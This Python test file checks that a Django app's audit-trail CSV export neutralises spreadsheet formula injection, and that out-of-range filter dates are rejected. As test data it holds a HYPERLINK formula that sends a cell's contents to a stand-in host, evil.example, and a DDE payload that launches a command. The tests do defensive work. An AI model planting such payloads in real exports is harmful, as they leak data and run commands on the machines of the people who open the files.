"""The DPO's audit export (www/audit_trail.py): what users typed reaches the spreadsheet as text, never a formula;
its date filters keep to the calendar."""

import csv
import io

import pytest
from django.urls import reverse

from piis.accounts.enums import Role
from piis.audit.enums import AuditVerb
from piis.audit.services import record
from tests.factories import make_beneficiary, make_member

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the file")'


def test_a_formula_typed_as_a_name_is_exported_as_text(cpas_a, login):
    beneficiary = make_beneficiary(cpas_a, last_name=FORMULA, first_name="@SUM(A1:A9)")
    record(actor=None, cpas=cpas_a, verb=AuditVerb.FILE_OPENED, target=beneficiary, beneficiary_id=beneficiary.pk,
           context="-cmd|' /C calc'!A0")  # fmt: skip
    response = login(make_member(cpas_a, Role.DPO)).get(reverse("audit:export"), {"verb": "file_opened"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    [row] = [r for r in rows[1:] if r[5].startswith("'")]
    assert row[5] == "'" + str(beneficiary)  # the object's name, its formula neutralised
    assert row[-1] == "'-cmd|' /C calc'!A0"
    cells = [cell for r in rows for cell in r]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("typed", ["9999-12-31", "0001-01-01"])
def test_an_audit_filter_date_off_the_calendar_is_a_form_error(cpas_a, login, typed):
    client = login(make_member(cpas_a, Role.DPO))
    response = client.get(reverse("audit:list"), {"date_to": typed})
    assert response.status_code == 200
    assert "date_to" in response.context["form"].errors
